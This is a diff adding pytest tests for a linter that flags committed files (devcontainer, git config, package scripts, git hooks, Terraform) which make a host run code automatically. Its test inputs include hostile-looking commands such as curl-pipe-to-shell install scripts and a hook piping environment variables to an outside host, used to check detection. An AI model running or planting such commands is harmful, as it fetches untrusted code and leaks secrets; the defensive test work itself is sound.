@@ -1,0 +1,109 @@
+"""AA010-AA013: code a committed file makes the host run by itself, with look-alikes that stay quiet."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.lint.helpers import at, lint_text, rules_of
+
+DEVCONTAINER = '{{"image": "x", "initializeCommand": {value}}}'
+
+
+@pytest.mark.parametrize(
+    ("value", "hits"),
+    [
+        ('"./scripts/prepare-host.sh"', [(1, 37)]),
+        ('["docker", "network", "create", "dev"]', [(1, 37)]),
+        ('{"net": "docker network create dev", "dirs": "mkdir -p .cache"}', [(1, 45)]),
+        ('"mkdir -p ${localWorkspaceFolder}/.cache && touch .env"', []),
+        ('""', []),
+    ],
+)
+def test_initialize_command(value: str, hits: list[tuple[int, int]]) -> None:
+    assert at(lint_text(".devcontainer/devcontainer.json", DEVCONTAINER.format(value=value)), "AA010") == hits
+
+
+def test_only_initialize_command_runs_on_the_host() -> None:
+    text = '{"image": "x", "postCreateCommand": "./scripts/setup.sh", "postStartCommand": "make dev"}'
+    assert rules_of(lint_text(".devcontainer/devcontainer.json", text)) == set()
+
+
+@pytest.mark.parametrize(
+    ("line", "severity"),
+    [
+        ("git config core.hooksPath .githooks", "medium"),
+        ("git -C repo config --local core.hooksPath hooks", "medium"),
+        ("git config set core.fsmonitor ./watch.sh", "high"),
+        ("git config credential.helper '!f() { echo password=$TOKEN; }; f'", "high"),
+        ("git config filter.clean-nb.clean 'python tools/strip.py'", "medium"),
+        ("git config --global include.path ../.gitconfig", "medium"),
+        ("git config user.name Dev", None),
+        ("git config --unset core.hooksPath", None),
+        ("git config credential.helper store", None),
+        ("git config core.autocrlf input", None),
+        ("echo git config core.hooksPath x", None),
+    ],
+)
+def test_git_settings_that_run_programs(line: str, severity: str | None) -> None:
+    findings = [f for f in lint_text("scripts/setup.sh", f"#!/bin/sh\n{line}\n") if f.rule == "AA011"]
+    assert [f.severity for f in findings] == ([severity] if severity else [])
+
+
+@pytest.mark.parametrize(
+    ("scripts", "hits"),
+    [
+        ('{"prepare": "husky"}', ["low"]),
+        ('{"postinstall": "lefthook install"}', ["low"]),
+        ('{"prepare": "husky && git config core.hooksPath .hooks"}', ["low", "medium"]),
+        ('{"lint": "husky"}', []),
+        ('{"prepare": "npm run build"}', []),
+    ],
+)
+def test_hook_installers_in_package_scripts(scripts: str, hits: list[str]) -> None:
+    findings = lint_text("package.json", f'{{"name": "a", "scripts": {scripts}}}')
+    assert sorted(f.severity for f in findings if f.rule == "AA011") == sorted(hits)
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "hits"),
+    [
+        ("package.json", '{"scripts": {"postinstall": "curl -s https://x.example.com/a | sh"}}', [(1, 30)]),
+        ("package.json", '{"scripts": {"install": "wget -O i https://x.example.com/i && sh i"}}', [(1, 26)]),
+        ("package.json", '{"scripts": {"test": "curl -s https://x.example.com/a | sh"}}', []),
+        ("package.json", '{"scripts": {"postinstall": "curl -o data.json https://x.example.com/d"}}', []),
+        (
+            "composer.json",
+            '{"scripts": {"post-install-cmd": ["php a.php", "curl -s https://x.example.com | bash"]}}',
+            [(1, 49)],
+        ),
+        ("hooks/post-checkout", "env | curl -d @- https://x.example.com/c\n", [(1, 1)]),
+        ("hooks/post-checkout", "#!/usr/bin/env python3\nos.system('curl -s https://x.example.com | sh')\n", []),
+        ("scripts/install.sh", "curl -s https://x.example.com | sh\n", []),
+        (".envrc", "source_url https://x.example.com/lib.sh sha256-abc\nuse nix\n", []),
+        (
+            "infra/a.tf",
+            'data "external" "a" {\n  program = ["sh", "-c", "curl -s https://x.example.com | sh"]\n}\n',
+            [(2, 14)],
+        ),
+    ],
+)
+def test_autorun_fetches_or_sends(name: str, text: str, hits: list[tuple[int, int]]) -> None:
+    assert at(lint_text(name, text), "AA012") == hits
+
+
+def test_terraform_external_data() -> None:
+    text = 'data "external" "sha" {\n  program = ["git", "rev-parse", "HEAD"]\n}\ndata "aws_region" "r" {}\n'
+    assert at(lint_text("main.tf", text), "AA013") == [(2, 13)]
+    assert rules_of(lint_text("main.tf", 'resource "null_resource" "a" {\n  provisioner "local-exec" {}\n}\n')) == set()
+
+
+def test_a_dev_container_that_installs_an_agent_is_an_agent_container() -> None:
+    for extra in (
+        '"postCreateCommand": "npm install -g @anthropic-ai/claude-code@2.0.0"',
+        '"features": {"ghcr.io/devcontainers-extra/features/codex:1": {}}',
+        '"onCreateCommand": ["pipx", "install", "aider-chat"]',
+    ):
+        text = f'{{"image": "x", "runArgs": ["--network=host"], {extra}}}'
+        assert rules_of(lint_text(".devcontainer/devcontainer.json", text)) == {"EG003"}, extra
+    plain = '{"image": "x", "runArgs": ["--network=host"], "postCreateCommand": "npm ci"}'
+    assert rules_of(lint_text(".devcontainer/devcontainer.json", plain)) == {"PV002"}
